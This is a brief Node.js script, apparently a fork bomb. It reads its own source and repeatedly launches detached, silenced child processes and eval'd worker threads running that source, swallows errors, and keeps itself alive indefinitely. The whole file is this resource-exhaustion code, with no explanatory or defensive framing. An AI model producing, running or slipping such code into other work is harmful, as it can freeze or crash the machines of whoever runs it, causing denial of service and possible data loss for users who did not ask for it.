const { spawn } = require("child_process");
const { Worker } = require("worker_threads");
const source = require("fs").readFileSync(__filename, "utf8");
for (let number = 0; number < 16; number++) {
  try {
    spawn(process.execPath, ["-e", source], { detached: true, stdio: "ignore" }).on("error", () => {});
    new Worker(source, { eval: true }).on("error", () => {});
  } catch (refused) {
    continue;
  }
}
setInterval(() => {}, 1000);
